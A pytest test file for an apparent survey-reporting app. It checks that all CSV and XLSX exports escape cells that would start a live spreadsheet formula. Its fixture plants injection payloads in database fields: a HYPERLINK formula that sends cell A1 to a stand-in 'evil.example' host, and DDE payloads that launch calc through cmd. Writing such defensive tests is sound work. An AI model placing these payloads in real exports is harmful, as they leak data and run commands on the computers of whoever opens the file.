"""No export cell starts a live formula: every CSV and XLSX writer passes text through one cell-safety function."""
from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from sqlalchemy import update

from survey.extensions import db
from survey.models import Agency, Comment, Response, ServicePoint
from survey.services.exports.cells import FORMULA_STARTS, safe_cell
from tests.fixtures.factories import HOME_PROVINCE
from tests.services.report_data import build

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


@pytest.fixture
def data(app, make_service_point):
    built = build(make_service_point)
    # Names are free text (only codes are checked at input); older rows may hold codes from before that check.
    db.session.execute(update(ServicePoint).values(name=EVIL))
    db.session.execute(update(Agency).values(name="@SUM(1+1)*cmd|' /C calc'!A0"))
    db.session.execute(update(Comment).values(text="+" + EVIL))
    db.session.execute(update(Response).values(field_code="-2+3+cmd|' /C calc'!A0", procedure_code="\t=1+1",
                                                counter="\r=1"))
    db.session.commit()
    return built


def test_safe_cell_quotes_text_that_would_be_a_formula():
    assert [safe_cell(v) for v in ("=1+1", "+1", "-1", "@A1", "\t=1", "\r=1")] == \
        ["'=1+1", "'+1", "'-1", "'@A1", "'\t=1", "'\r=1"]
    assert [safe_cell(v) for v in ("Hạ Long", "", None, -3, 2.5, "a=b")] == ["Hạ Long", "", None, -3, 2.5, "a=b"]


def live(cells) -> list:
    return [c for c in cells if isinstance(c, str) and c.startswith(FORMULA_STARTS)]


def csv_cells(body: bytes) -> list:
    return [c for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for c in row]


def xlsx_cells(body: bytes) -> list:
    book = openpyxl.load_workbook(io.BytesIO(body))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a cell is stored as a formula"
    return [c.value for c in cells]


QUERIES = [("/reports/export/indices", {"by": by, "province": HOME_PROVINCE, "period": "2025-10..2026-03",
                                        "min_n": 1})
           for by in ("commune", "agency", "service_point", "procedure", "field")] + [
    ("/reports/export/responses", {"period": "2025-10..2026-03", "min_n": 1}),
    ("/reports/export/responses", {"period": "2025-10..2026-03", "part": "codebook"}),
]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("url, query", QUERIES)
def test_every_web_export_has_no_live_formula(client, data, login_as, url, query, fmt):
    login_as("homeaffairs")
    resp = client.get(url, query_string={"instrument": "KIOSK-QUICK", "format": fmt, **query})
    if fmt == "xlsx" and query.get("part") == "codebook":
        return  # the code book is a sheet of the responses workbook
    assert resp.status_code == 200, resp.get_data(as_text=True)[:300]
    cells = csv_cells(resp.data) if fmt == "csv" else xlsx_cells(resp.data)
    assert len(cells) > 10 and not live(cells)
    if "service_point" in str(query.get("by")):
        assert any(isinstance(c, str) and c.startswith("'=HYPERLINK") for c in cells)


@pytest.mark.parametrize("args, suffix", [
    (["export", "indices", "--by", "agency", "--min-n", "1"], ".csv"),
    (["export", "indices", "--by", "service_point", "--min-n", "1"], ".xlsx"),
    (["export", "indices", "--by", "field", "--min-n", "1"], ".csv"),
    (["export", "responses", "--min-n", "1"], ".xlsx"),
    (["export", "responses", "--min-n", "1", "--codebook", "{dir}/codebook.csv"], ".csv"),
])
def test_every_cli_export_has_no_live_formula(runner, data, tmp_path, args, suffix):
    out = tmp_path / f"out{suffix}"
    result = runner.invoke(args=[a.format(dir=tmp_path) for a in args]
                           + ["--instrument", "KIOSK-QUICK", "--period", "2025-10..2026-03", "-o", str(out)])
    assert result.exit_code == 0, result.output
    for path in tmp_path.iterdir():
        cells = csv_cells(path.read_bytes()) if path.suffix == ".csv" else xlsx_cells(path.read_bytes())
        assert cells and not live(cells), path.name


@pytest.mark.parametrize("by", ["agency", "service_point", "field", "procedure"])
def test_cli_indices_csv_has_no_live_formula(runner, data, by):
    result = runner.invoke(args=["indices", "--instrument", "KIOSK-QUICK", "--period", "2025-10..2026-03",
                                 "--by", by, "--province", HOME_PROVINCE, "--format", "csv"])
    assert result.exit_code == 0, result.output
    cells = csv_cells(result.output.encode())
    assert len(cells) > 10 and not live(cells)


def test_templates_have_no_live_formula(client, login_as):
    login_as("homeaffairs")
    for url in ("/paper/template.csv?instrument=KIOSK-QUICK", "/admin/weights/template.csv?province=22"):
        resp = client.get(url)
        assert resp.status_code == 200 and not live(csv_cells(resp.data)), url
